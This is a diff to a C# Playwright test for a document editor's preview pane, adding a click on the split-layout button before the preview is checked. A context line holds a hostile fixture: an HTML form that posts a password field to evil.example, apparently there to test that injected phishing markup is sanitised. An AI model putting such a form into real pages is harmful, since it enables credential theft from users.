@@ -23,6 +23,8 @@ public sealed class DocumentPreviewJourneyTests(NoressServer server)
             "<form action=\"https://evil.example\"><input name=password><button>Envoyer</button></form>\n\n" +
             "::: mud-overlay\nTout l’écran\n:::\n\nFin du texte.\n");
         await Expect(page.Locator("[data-testid=collaborative-editor][data-connection=connected]")).ToHaveCountAsync(1);
+        // The preview is rendered when asked for (ADR 0058).
+        await page.GetByTestId("document-layout-split").ClickAsync();
         var preview = page.GetByTestId("document-preview");
         await Expect(preview).ToContainTextAsync("Fin du texte.");
 
